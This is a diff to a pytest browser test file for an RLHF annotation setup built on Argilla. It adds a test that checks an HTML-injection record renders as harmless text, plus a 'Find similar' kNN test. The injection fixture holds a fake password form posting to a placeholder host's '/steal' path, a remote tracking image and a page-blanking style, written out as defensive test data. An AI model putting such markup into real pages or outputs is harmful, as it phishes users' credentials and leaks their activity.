@@ -13,6 +13,8 @@ from pathlib import Path
 
 import pytest
 
+from rlhf_argilla.annotation.vectors import VECTOR_PROMPT
+
 pytestmark = [pytest.mark.browser, pytest.mark.integration]
 
 CHROMIUM = Path("/usr/bin/chromium")
@@ -93,3 +95,114 @@ def test_annotation_page_shows_the_ranking_and_rating_questions(owner_login, pus
             browser.close()
     print(f"\nscreenshot of the annotation page: {shot}")
     assert shot.stat().st_size > 10_000
+
+
+HOSTILE_HOST = "203.0.113.9"  # TEST-NET-3: never routed, and no request may even be attempted
+HOSTILE = (
+    "Keep a neutral spine.\n\n<style>body{display:none}</style>\n"
+    f'<img src="http://{HOSTILE_HOST}/pixel.png">\n'
+    f'<form action="http://{HOSTILE_HOST}/steal"><input type="password" name="pw" '
+    'placeholder="re-enter your Argilla password"><button>Sign in</button></form>'
+)
+
+
+@pytest.fixture
+def hostile_dataset(argilla_client, tmp_path):
+    """One pushed pair whose response 1 carries a <style>, a remote <img> and a password <form>."""
+    import argilla as rg
+
+    from rlhf_argilla.annotation.push import push_file
+    from rlhf_argilla.schema import PairRow
+    from tests.annotation.pairs_factory import make_pair, write_pairs
+
+    pair = make_pair(0, seed=23)
+    hostile = pair.response_1.model_copy(update={"text": HOSTILE})
+    pair = pair.model_copy(
+        update={
+            "response_1": hostile,
+            "pair_id": PairRow.make_id(pair.prompt, HOSTILE, pair.response_2.text),
+        }
+    )
+    name = f"t-ui-hostile-{uuid.uuid4().hex[:8]}"
+    workspace = rg.Workspace(name=name, client=argilla_client).create()
+    try:
+        push_file(argilla_client, write_pairs(tmp_path, [pair]), dataset=name, workspace=name)
+        yield argilla_client.datasets(name=name, workspace=name)
+    finally:
+        for dataset in list(workspace.datasets):
+            dataset.delete()
+        workspace.delete()
+
+
+def test_generated_html_renders_as_harmless_text(owner_login, hostile_dataset, argilla_target):
+    """A response holding <style>, a remote <img> and a <form> shows as text: no element, no request."""
+    from playwright.sync_api import expect, sync_playwright
+
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    shot = ARTIFACTS / "hostile-record.png"
+    attempted: list[str] = []
+    with sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1440, "height": 1000})
+            page.set_default_timeout(60_000)
+            page.on("request", lambda request: attempted.append(request.url))
+            page.goto(f"{argilla_target.url}/sign-in")
+            page.locator("input:not([type=password])").first.fill(owner_login.username)
+            page.locator("input[type=password]").fill(owner_login.password)
+            page.locator("button[type=submit]").click()
+            page.wait_for_url(lambda url: "sign-in" not in url)
+            page.goto(f"{argilla_target.url}/dataset/{hostile_dataset.id}/annotation-mode")
+
+            expect(page.get_by_text("Keep a neutral spine.").first).to_be_visible()  # the page is not blanked
+            expect(page.get_by_text("re-enter your Argilla password", exact=False).first).to_be_visible()
+            page.screenshot(path=str(shot), full_page=True)
+            assert page.locator("input[type=password]").count() == 0
+            assert page.locator(f'form[action*="{HOSTILE_HOST}"], img[src*="{HOSTILE_HOST}"]').count() == 0
+            injected = page.evaluate(
+                "[...document.querySelectorAll('style')].some(s => s.textContent.includes('body{display:none}'))"
+            )
+            assert injected is False
+            assert page.locator("body").is_visible()
+        finally:
+            browser.close()
+    assert not [url for url in attempted if HOSTILE_HOST in url]
+    print(f"\nscreenshot of the hostile record: {shot}")
+
+
+def test_find_similar_on_a_record_lists_its_neighbours(owner_login, pushed_dataset, argilla_target):
+    """The UI's "Find similar" (a kNN query on the prompt vector, answered by the local stack) lists the
+    other records, the nearest by cosine first."""
+    import numpy as np
+    from playwright.sync_api import expect, sync_playwright
+
+    stored = {
+        record.fields["prompt"]: np.asarray(record.vectors[VECTOR_PROMPT])
+        for record in pushed_dataset.records(with_vectors=True)
+    }
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    shot = ARTIFACTS / "find-similar.png"
+    with sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1440, "height": 1000})
+            page.set_default_timeout(60_000)
+            page.goto(f"{argilla_target.url}/sign-in")
+            page.locator("input:not([type=password])").first.fill(owner_login.username)
+            page.locator("input[type=password]").fill(owner_login.password)
+            page.locator("button[type=submit]").click()
+            page.wait_for_url(lambda url: "sign-in" not in url)
+            page.goto(f"{argilla_target.url}/dataset/{pushed_dataset.id}/annotation-mode")
+            expect(page.get_by_text("Find similar").first).to_be_visible()
+            query = next(prompt for prompt in stored if page.get_by_text(prompt).count())
+            page.get_by_text("Find similar").first.click()
+
+            expect(page.get_by_text("Similar to").first).to_be_visible()
+            expect(page.get_by_text(f"1 of {len(stored) - 1}").first).to_be_visible()  # itself left out
+            unit = {prompt: vector / np.linalg.norm(vector) for prompt, vector in stored.items()}
+            nearest = max((p for p in unit if p != query), key=lambda p: float(unit[p] @ unit[query]))
+            expect(page.get_by_text(nearest).first).to_be_visible()
+            page.screenshot(path=str(shot), full_page=True)
+        finally:
+            browser.close()
+    print(f"\nscreenshot of find similar: {shot}")
